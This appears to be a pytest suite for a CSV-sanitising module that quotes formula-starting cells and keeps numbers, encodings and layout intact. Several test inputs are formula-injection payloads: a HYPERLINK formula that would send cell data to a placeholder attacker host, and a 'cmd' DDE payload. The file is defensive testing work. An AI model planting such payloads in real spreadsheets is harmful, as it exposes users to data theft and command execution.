"""Spreadsheet-safe CSV cells: formula starts neutralised, everything else untouched (cell and Arrow)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pytest

from core.csv_cells import (
    FORMULA_STARTS,
    for_people,
    neutralise_cell,
    neutralise_csv,
    neutralise_table,
    with_utf8_mark,
)

ROOT = Path(__file__).resolve().parents[2]

CASES = [
    ('=HYPERLINK("https://evil.example/?"&A1,"click")', '\'=HYPERLINK("https://evil.example/?"&A1,"click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("=", "'="),
    ("plain text", "plain text"),
    (" =1+1", " =1+1"),  # a leading space is text already
    ("a=b", "a=b"),
    ("'=quoted", "'=quoted"),
    ("", ""),
    ("\n=1", "\n=1"),
    # numbers as people write them stay (the quote made "-12.5%" text for every reader); anything with
    # a letter, an operator or a space past the sign is still quoted
    ("-5", "-5"),
    ("-1,234.50", "-1,234.50"),
    ("-12.5%", "-12.5%"),
    ("+3.2%", "+3.2%"),
    ("-$1,234.50", "-$1,234.50"),
    ("+1.5e3", "+1.5e3"),
    ("-", "'-"),
    ("-inf", "-inf"),  # a float's negative infinity as Arrow and pandas write it: `'-inf` was text
    ("-Infinity", "-Infinity"),
    ("+NaN", "+NaN"),
    ("-info", "'-info"),
    ("-inf()", "'-inf()"),
    ("-inf+A1", "'-inf+A1"),
    ("+44 20 7946 0958", "'+44 20 7946 0958"),
    ("@jetblue", "'@jetblue"),
    ("-1+1", "'-1+1"),
    ("-5%A1", "'-5%A1"),
    ("-1\n", "'-1\n"),  # not a number: Python's `$` matched before the newline (Arrow's did not)
]


@pytest.mark.parametrize(("raw", "expected"), CASES)
def test_neutralise_cell(raw, expected):
    assert neutralise_cell(raw) == expected


@pytest.mark.parametrize("value", [None, 0, -5, 2.5, True, {"a": "=1"}])
def test_non_text_cells_are_untouched(value):
    assert neutralise_cell(value) is value


def test_a_float_columns_infinities_leave_as_numbers():
    """A FLOAT64 -Infinity reached the attached CSV as the text `'-inf`."""
    import io

    import pyarrow.csv as pcsv

    out = io.BytesIO()
    pcsv.write_csv(pa.table({"f": [float("-inf"), float("inf"), float("nan"), -1.5]}), out)
    assert for_people("result.csv", out.getvalue()).decode().splitlines() == [
        '"f"',
        "-inf",
        "inf",
        "nan",
        "-1.5",
    ]


def test_every_formula_start_is_covered():
    assert all(neutralise_cell(start + "x").startswith("'") for start in FORMULA_STARTS)


def test_neutralise_table_matches_the_cell_rule_and_keeps_types():
    raws = [raw for raw, _ in CASES]
    table = pa.table(
        {
            "text": raws + [None],
            "large": pa.array(raws + [None], pa.large_string()),
            "dict": pa.array(raws + [None]).dictionary_encode(),
            "number": list(range(-len(raws), 0)) + [None],
        }
    )
    out = neutralise_table(table).to_pydict()
    expected = [neutralise_cell(r) for r in raws] + [None]
    assert out["text"] == out["large"] == out["dict"] == expected
    assert out["number"] == table.column("number").to_pylist()
    assert neutralise_table(table).schema.field("number").type == pa.int64()


# Whole CSV files as model code writes them: every cell in the rule, numbers and layout kept.
FILES = [
    (b"a,b\n=1+1,-5\n", b"a,b\n'=1+1,-5\n"),
    (b"a,b\r\n@x,+1.5e3\r\n", b"a,b\r\n'@x,+1.5e3\r\n"),  # CRLF kept
    (b'q\n"=HYPERLINK(""http://e/"",""x"")"\n', b'q\n"\'=HYPERLINK(""http://e/"",""x"")"\n'),
    (b"n\n-2+3\n-\n.5\n-0.25\n", b"n\n'-2+3\n'-\n.5\n-0.25\n"),
    (b"\xef\xbb\xbf=cmd,x\n", b"\xef\xbb\xbf'=cmd,x\n"),  # behind a byte-order mark too
    (b"\xff=,=\xff\n", b"\xff=,'=\xff\n"),  # bytes that are not UTF-8 survive
    (b'a,"b\n=c"\n', b'a,"b\n=c"\n'),  # a formula start inside a cell is text already
    (b'x,"  quoted"\n1,2', b'x,"  quoted"\n1,2'),  # nothing to change: the very same bytes
    # what a reader whose list separator is `;` (or a tab) would split off: quoted, text unchanged
    (b"a,b\nx;=HYPERLINK(1),2\n", b'"a","b"\n"x;=HYPERLINK(1)","2"\n'),
    (b"a\nx\t@SUM(1)\n", b'"a"\n"x\t@SUM(1)"\n'),
    # Excel's `sep=` line sets the separator: kept, and cells split on it
    (b"sep=;\nname;value\n=cmd;-5\n", b"sep=;\nname;value\n'=cmd;-5\n"),
]


@pytest.mark.parametrize(("raw", "expected"), FILES)
def test_neutralise_csv(raw, expected):
    assert neutralise_csv(raw) == expected


def test_utf16_csv_is_read_and_written_as_utf16():
    raw = "name,n\n=HYPERLINK(1),5\n".encode("utf-16")
    out = neutralise_csv(raw)
    assert out.startswith((b"\xff\xfe", b"\xfe\xff"))
    assert out.decode("utf-16") == "name,n\n'=HYPERLINK(1),5\n"


def test_a_tab_separated_file_is_split_on_tabs():
    assert neutralise_csv(b"a\tb\n=1\t2\n", delimiter="\t") == b"a\tb\n'=1\t2\n"


def test_neutralise_csv_refuses_what_it_cannot_check():
    with pytest.raises(ValueError, match="encoding"):
        neutralise_csv("=1,2\n".encode("utf-16-le"))  # UTF-16 without a byte-order mark
    with pytest.raises(ValueError, match="too large"):
        neutralise_csv(b"=1\n" * 100, limit=99)
    with pytest.raises(ValueError, match="could not be checked"):
        neutralise_csv(b'a\n"' + b"x" * 200_000 + b'"\n')  # past the csv module's field limit


def test_lists_structs_maps_and_bytes_become_text_a_csv_can_hold():
    """Attaching a result with a list or struct column failed ("Unsupported Type:list"), and bytes
    were written raw, invalid UTF-8 in the file."""
    import io

    import pyarrow.csv as pc

    table = pa.table(
        {
            "tags": [["a", "b"], None],
            "pair": [{"k": 1, "v": "x"}, {"k": 2, "v": "=cmd"}],
            "blob": [b"\x00\xff", None],
            "n": [-5, 3],
        }
    )
    out = io.BytesIO()
    pc.write_csv(neutralise_table(table), out)
    assert out.getvalue().decode().splitlines() == [
        '"tags","pair","blob","n"',
        '"[""a"", ""b""]","{""k"": 1, ""v"": ""x""}","00ff",-5',
        ',"{""k"": 2, ""v"": ""=cmd""}",,3',
    ]


def test_decimals_are_positional_and_maps_are_objects():
    """NUMERIC's zero and a billionth reached the CSV as `0E-9` and `-1E-9` (the preview says
    0.000000000), and a DuckDB MAP as pairs (`[["k1", 10], ["k2", 20]]`)."""
    import io

    import duckdb
    import pyarrow.csv as pc

    table = duckdb.sql(
        "SELECT * FROM (VALUES (MAP {'k1': 10, 'k2': 20}, 0::DECIMAL(38, 9), 1.5::DECIMAL(10, 2)), "
        "(NULL, -0.000000001::DECIMAL(38, 9), NULL), (NULL, 12.25::DECIMAL(38, 9), 2)) v(mp, num, plain)"
    ).to_arrow_table()
    out = io.BytesIO()
    pc.write_csv(neutralise_table(table), out)
    assert out.getvalue().decode().splitlines() == [
        '"mp","num","plain"',
        '"{""k1"": 10, ""k2"": 20}","0.000000000",1.50',
        ',"-0.000000001",',
        ',"12.250000000",2.00',  # a column with no such value stays a number, unquoted
    ]


def test_a_large_csv_is_checked_without_holding_its_rows(tmp_path):
    """Held as a list of rows, a 49 MB CSV of short cells took 1.4 GB of the bot's memory (a model
    can attach one, under the 50 MB limit). Read row by row: an 8 MB one adds under 3x its size,
    where the list of rows added over 10x (measured in a fresh process: the test's own heap aside)."""
    script = tmp_path / "peak.py"
    script.write_text(
        "import resource\n"
        "from core.csv_cells import neutralise_csv\n"
        "row = ','.join(['ab'] * 1000) + '\\n'\n"
        "data = ('=cmd(),' + row).encode() + row.encode() * (8 * 2**20 // len(row))\n"
        "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "out = neutralise_csv(data)\n"
        'assert out.startswith(b"\'=cmd(),ab") and len(out) == len(data) + 1\n'
        "print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024 / len(data))\n"
    )
    done = subprocess.run(
        [sys.executable, str(script)], capture_output=True, text=True, cwd=ROOT, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert float(done.stdout) < 3, done.stdout


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"a,b\n1,2\n", b"a,b\n1,2\n"),  # ASCII: as it is
        ("ort\nMünchen\n".encode(), "\ufeffort\nMünchen\n".encode()),  # Excel reads it as UTF-8 now
        ("\ufeffort\nMünchen\n".encode(), "\ufeffort\nMünchen\n".encode()),  # one mark, not two
        ("ort\nMünchen\n".encode("utf-16"), "ort\nMünchen\n".encode("utf-16")),  # UTF-16 keeps its own
        (b"ort\nM\xfcnchen\n", b"ort\nM\xfcnchen\n"),  # Latin-1, not UTF-8: a mark would lie
    ],
)
def test_a_utf8_mark_only_where_non_ascii_utf8_text_needs_it(data, expected):
    assert with_utf8_mark(data) == expected


def test_only_a_csv_gets_the_mark_not_a_tsv():
    """A TSV goes to programs (cut, awk, COPY), which keep the mark as part of the first header."""
    text = "ort\tflüge\nMünchen\t3\n".encode()
    assert for_people("orte.tsv", text) == text
    assert for_people("orte.csv", text.replace(b"\t", b",")) == b"\xef\xbb\xbf" + text.replace(b"\t", b",")
    assert for_people("chart.png", b"\x89PNG\xff") == b"\x89PNG\xff"


def test_a_map_whose_keys_json_cannot_hold_is_written_as_its_pairs():
    """DuckDB's `histogram(d)` is a MAP keyed by dates: as a dict, `json.dumps` refused it and the CSV
    conversion failed ("keys must be str, int, float, bool or None, not datetime.date"). A map with a
    repeated key lost all but one of them (and a UserWarning reached the step's output)."""
    import io
    import warnings

    import duckdb
    import pyarrow.csv as pc

    table = duckdb.sql(
        "SELECT carrier, histogram(d) AS hist FROM (VALUES ('AA', DATE '2024-01-02'), "
        "('AA', DATE '2024-01-02'), ('AA', DATE '2024-01-03')) v(carrier, d) GROUP BY carrier"
    ).to_arrow_table()
    repeated = pa.MapArray.from_arrays([0, 2], pa.array(["k", "k"]), pa.array([1, 2]))
    table = table.append_column("dup", repeated)
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        pc.write_csv(neutralise_table(table), out)
    assert out.getvalue().decode().splitlines() == [
        '"carrier","hist","dup"',
        '"AA","[[""2024-01-02"", 2], [""2024-01-03"", 1]]","[[""k"", 1], [""k"", 2]]"',
    ]
